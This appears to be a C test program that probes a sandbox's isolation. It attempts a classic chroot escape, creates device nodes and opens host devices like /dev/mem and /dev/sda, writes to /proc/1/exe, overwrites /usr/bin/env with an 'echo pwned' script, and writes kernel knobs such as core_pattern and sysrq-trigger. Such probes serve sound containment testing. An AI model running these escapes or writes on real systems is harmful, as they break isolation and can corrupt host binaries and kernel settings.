/* Hostile program: files, the file-size limit and filesystem escapes.
 *
 * Usage: fs MODE [ARGS...]; see main() for the modes.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <unistd.h>

static const char *en(int e) {
    switch (e) {
    case 0: return "ok";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case EROFS: return "EROFS";
    case ETXTBSY: return "ETXTBSY";
    case EFBIG: return "EFBIG";
    case ENOSPC: return "ENOSPC";
    case ENXIO: return "ENXIO";
    case EXDEV: return "EXDEV";
    case EINVAL: return "EINVAL";
    case EISDIR: return "EISDIR";
    case EEXIST: return "EEXIST";
    case ENODEV: return "ENODEV";
    default: return strerror(e);
    }
}

/* One byte at OFFSET_MB into PATH: a sparse file past the size limit. */
static int sparse(const char *path, long mb) {
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd < 0) return 3;
    if (lseek(fd, (off_t)mb << 20, SEEK_SET) < 0) return 4;
    puts("writing");
    fflush(stdout);
    ssize_t r = write(fd, "x", 1);
    printf("write returned %zd (%s)\n", r, en(r < 0 ? errno : 0));
    return 0;
}

/* Grow PATH 64 KiB at a time with SIGXFSZ ignored until a write fails. */
static int grow(const char *path) {
    static char buf[65536];
    memset(buf, 'g', sizeof buf);
    signal(SIGXFSZ, SIG_IGN);
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd < 0) return 3;
    long long size = 0;
    for (;;) {
        ssize_t r = write(fd, buf, sizeof buf);
        if (r <= 0) {
            printf("size %lld stopped by %s\n", size, en(r < 0 ? errno : 0));
            return 0;
        }
        size += r;
    }
}

/* ftruncate PATH to MB megabytes with SIGXFSZ ignored. */
static int bigtrunc(const char *path, long mb) {
    signal(SIGXFSZ, SIG_IGN);
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd < 0) return 3;
    int r = ftruncate(fd, (off_t)mb << 20);
    printf("ftruncate %s\n", en(r ? errno : 0));
    return 0;
}

/* The classic chroot escape: chroot into a subdirectory while keeping a
 * directory fd outside, fchdir to it, climb with "..", chroot("."). */
static int chroot_escape(void) {
    mkdir("/tmp/jail", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    int r = chroot("/tmp/jail");
    printf("chroot %s\n", en(r ? errno : 0));
    if (fchdir(outside) == 0) {
        for (int i = 0; i < 64; i++) {
            if (chdir("..")) break;
        }
        r = chroot(".");
        printf("chroot-dot %s\n", en(r ? errno : 0));
    }
    /* Whatever happened: list what "/" is now. */
    DIR *d = opendir("/");
    struct dirent *e;
    printf("root:");
    while (d && (e = readdir(d)))
        if (e->d_name[0] != '.') printf(" %s", e->d_name);
    printf("\n");
    return 0;
}

/* Device nodes: create some, open the host's. */
static int devices(void) {
    int r = mknod("/tmp/sda", S_IFBLK | 0666, makedev(8, 0));
    printf("mknod-block %s\n", en(r ? errno : 0));
    r = mknod("/tmp/mem", S_IFCHR | 0666, makedev(1, 1));
    printf("mknod-mem %s\n", en(r ? errno : 0));
    r = mknod("/tmp/fifo", S_IFIFO | 0666, 0);
    printf("mknod-fifo %s\n", en(r ? errno : 0));
    const char *paths[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda", "/dev/vda",
                           "/dev/tty", "/dev/console", "/dev/tty0", "/dev/fuse", "/dev/kvm",
                           "/dev/net/tun", "/dev/loop0", "/dev/loop-control", "/dev/mapper/control"};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        int fd = open(paths[i], O_RDWR | O_NOCTTY);
        printf("open %s %s\n", paths[i], en(fd < 0 ? errno : 0));
        if (fd >= 0) close(fd);
    }
    return 0;
}

/* /proc/N/exe: overwrite the running binary, init's binary (the sandbox
 * itself), and a host binary through the overlay. */
static int procexe(void) {
    int fd = open("/proc/self/exe", O_WRONLY);
    printf("self-exe %s\n", en(fd < 0 ? errno : 0));
    fd = open("/proc/1/exe", O_WRONLY);
    printf("init-exe-write %s\n", en(fd < 0 ? errno : 0));
    fd = open("/proc/1/exe", O_RDONLY);
    printf("init-exe-read %s\n", en(fd < 0 ? errno : 0));
    char link[256];
    ssize_t n = readlink("/proc/1/exe", link, sizeof link - 1);
    printf("init-exe-readlink %s\n", en(n < 0 ? errno : 0));
    fd = open("/usr/bin/env", O_WRONLY | O_TRUNC);
    if (fd >= 0) {
        ssize_t w = write(fd, "#!/bin/sh\necho pwned\n", 21);
        printf("usr-bin-env-write %s\n", w == 21 ? "ok" : en(errno));
        close(fd);
    } else {
        printf("usr-bin-env-write %s\n", en(errno));
    }
    return 0;
}

/* Writes to kernel knobs. */
static int procsys(void) {
    const char *paths[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                           "/proc/sys/vm/drop_caches", "/proc/sys/kernel/shm_rmid_forced",
                           "/proc/sysrq-trigger", "/proc/sys/fs/file-max",
                           "/proc/sys/net/ipv4/ip_forward", "/proc/self/oom_score_adj",
                           "/proc/1/oom_score_adj", "/proc/self/attr/current",
                           "/sys/kernel/mm/transparent_hugepage/enabled",
                           "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes"};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        int fd = open(paths[i], O_WRONLY);
        if (fd < 0) {
            printf("write %s %s\n", paths[i], en(errno));
            continue;
        }
        const char *v = i == 7 ? "-1000\n" : "1\n";
        ssize_t w = write(fd, v, strlen(v));
        printf("write %s %s\n", paths[i], w > 0 ? "ok" : en(errno));
        close(fd);
    }
    return 0;
}

int main(int argc, char **argv) {
    const char *m = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(m, "sparse")) return sparse(argv[2], atol(argv[3]));
    if (!strcmp(m, "grow")) return grow(argv[2]);
    if (!strcmp(m, "bigtrunc")) return bigtrunc(argv[2], atol(argv[3]));
    if (!strcmp(m, "chroot_escape")) return chroot_escape();
    if (!strcmp(m, "devices")) return devices();
    if (!strcmp(m, "procexe")) return procexe();
    if (!strcmp(m, "procsys")) return procsys();
    fprintf(stderr, "unknown mode %s\n", m);
    return 2;
}
